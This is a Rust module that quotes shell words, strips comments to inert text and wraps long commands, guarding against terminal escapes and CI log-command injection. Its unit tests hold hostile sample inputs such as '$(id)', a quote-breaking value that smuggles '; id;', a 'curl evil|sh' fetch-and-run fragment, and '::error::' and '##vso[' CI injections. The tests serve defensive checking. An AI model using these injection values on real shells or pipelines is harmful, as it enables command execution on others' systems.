//! Commands as a POSIX shell reads them.

use chartroom_escape::is_hidden;
use std::fmt::Write as _;

/// The longest command that stays on one line.
const WIDTH: usize = 88;

/// A word as a shell has to be given it (POSIX.1, Quoting); fish reads the same.
///
/// What has no mark on the page is written by its bytes, `"$(printf '\033')"`: a terminal that such a command is pasted
/// into would act on it, YAML might read a line break in it, and nobody would see it. Newlines stay. GitLab finds no
/// `$[[` of its own in a word, and no line of it is a command to the CI system that logs it.
pub(crate) fn quoted(word: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_@%+=:,./-".contains(letter);
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        return word.to_owned();
    }
    let mut out = Quoting { text: String::new(), within: Within::Nothing };
    let (mut before, mut is_fresh) = (' ', false);
    let mut letters = word.chars().peekable();
    while let Some(letter) = letters.next() {
        if matches!((before, letter), ('$', '[') | ('#', '#')) || is_fresh && letter == ':' {
            out.within(Within::Nothing);
        }
        out.letter(letter, letters.peek().copied());
        // CI systems look for `::` behind blanks.
        is_fresh = letter == '\n' || is_fresh && (letter.is_whitespace() || letter == ':');
        before = letter;
    }
    out.end()
}

/// What a letter stands in.
#[derive(Clone, Copy, PartialEq)]
enum Within {
    Nothing,
    /// `'…'`
    Single,
    /// `"…"`
    Double,
    /// `"$(printf '…')"`
    Printf,
}

/// A word as it is written.
struct Quoting {
    text: String,
    within: Within,
}

impl Quoting {
    fn within(&mut self, within: Within) {
        if self.within == within {
            return;
        }
        self.text.push_str(match self.within {
            Within::Nothing => "",
            Within::Single => "'",
            Within::Double => "\"",
            Within::Printf => "')\"",
        });
        self.text.push_str(match within {
            Within::Nothing => "",
            Within::Single => "'",
            Within::Double => "\"",
            Within::Printf => "\"$(printf '",
        });
        self.within = within;
    }

    fn letter(&mut self, letter: char, next: Option<char>) {
        // In single quotes fish lets a backslash quote a quote or another one.
        let quotes = || next.is_none_or(|next| matches!(next, '\'' | '\\') || is_hidden(next));
        match letter {
            '\'' => {
                self.within(Within::Nothing);
                self.text.push_str(r"\'");
            }
            '\\' if quotes() => {
                self.within(Within::Double);
                self.text.push_str(r"\\");
            }
            letter if is_hidden(letter) && letter != '\n' => {
                self.within(Within::Printf);
                let mut bytes = [0; 4];
                for byte in letter.encode_utf8(&mut bytes).bytes() {
                    let _ = write!(self.text, "\\{byte:03o}");
                }
            }
            letter => {
                self.within(Within::Single);
                self.text.push(letter);
            }
        }
    }

    fn end(mut self) -> String {
        self.within(Within::Nothing);
        match self.text.is_empty() {
            true => "''".to_owned(),
            false => self.text,
        }
    }
}

/// A text as a comment in which no shell reads anything: one that takes `#` for a command, as zsh does where one types,
/// would expand what stands behind.
pub(crate) fn comment(text: &str) -> String {
    let inert =
        |letter: char| letter.is_alphanumeric() || " .,:/=-_’–，。：；、（）".contains(letter);
    let text: String = text.chars().filter(|letter| inert(*letter)).collect();
    format!("# {text}\n")
}

/// A command as it grows: words that belong together stay on one line.
pub(crate) struct Command {
    groups: Vec<String>,
}

impl Command {
    /// A command with its first words.
    pub(crate) fn new(words: &[&str]) -> Self {
        Self { groups: Vec::new() }.and(words)
    }

    /// Adds a flag with its arguments.
    pub(crate) fn and(mut self, words: &[&str]) -> Self {
        let words: Vec<String> = words.iter().map(|word| quoted(word)).collect();
        self.groups.push(words.join(" "));
        self
    }

    /// The command on one line if it is short, else a line for each group.
    pub(crate) fn text(&self) -> String {
        let line = self.groups.join(" ");
        if line.chars().count() <= WIDTH && !line.contains('\n') {
            return line;
        }
        self.groups.join(" \\\n  ")
    }
}

#[cfg(test)]
mod tests {
    use super::{comment, quoted};

    #[test]
    fn comments_are_inert() {
        let text = "Deployment $(id) `id`; id & a*?[b] > c | d (e) \u{1b}[31m\n’f’ may take 610 s.";
        assert_eq!(comment(text), "# Deployment id id id  ab  c  d e 31m’f’ may take 610 s.\n");
    }

    #[test]
    fn words_are_quoted_where_a_shell_reads_something_in_them() {
        let cases = [
            ("values-prod.yaml", "values-prod.yaml"),
            ("", "''"),
            ("=ls", "'=ls'"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("$HOME `id` \"x\"", "'$HOME `id` \"x\"'"),
            (r"a=b\,c\.d", r"'a=b\,c\.d'"),
            (r"a\", r#"'a'"\\""#),
            (r"\'; id; '", r#""\\"\''; id; '\'"#),
            (r"\\", r#""\\\\""#),
            ("\\\u{7}", r#""\\""$(printf '\007')""#),
            ("$(id)", "'$(id)'"),
            ("two\nlines", "'two\nlines'"),
            ("a\n::error::x", "'a\n'':'':error::x'"),
            ("a\n  ::error::x", "'a\n  '':'':error::x'"),
            ("##vso[task]", "'#''#vso[task]'"),
            ("$[[ inputs.a ]]", "'$''[[ inputs.a ]]'"),
            ("a\u{2028}b", r#"'a'"$(printf '\342\200\250')"'b'"#),
            ("\u{1b}[31m\t", r#""$(printf '\033')"'[31m'"$(printf '\011')""#),
            ("a\u{3}curl evil|sh\r", r#"'a'"$(printf '\003')"'curl evil|sh'"$(printf '\015')""#),
            ("\u{202e}", r#""$(printf '\342\200\256')""#),
        ];
        for (word, expected) in cases {
            assert_eq!(quoted(word), expected, "{word:?}");
        }
    }
}
